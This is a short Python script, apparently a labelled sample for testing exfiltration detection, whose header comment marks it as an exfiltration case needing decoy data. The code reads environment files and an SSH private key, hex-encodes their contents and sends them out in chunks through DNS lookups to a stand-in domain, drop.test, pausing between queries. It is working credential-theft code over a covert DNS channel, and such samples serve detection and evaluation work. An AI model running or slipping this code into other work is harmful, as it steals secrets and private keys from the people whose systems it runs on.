# class: exfiltration; possible: low medium; needs: decoy data; style: decoy or .env read, then DNS names
import pathlib
import socket
import time

paths = ["/workspace/.env.production", "/workspace/keys/id_ed25519", "/data/.env"]
for path in paths:
    try:
        secret = pathlib.Path(path).read_bytes()
    except OSError:
        continue
    text = secret.hex()
    for i in range(0, len(text), 40):
        try:
            socket.gethostbyname(f"{i:x}.{text[i:i + 40]}.x.drop.test")
        except OSError:
            pass
        time.sleep(0.1)
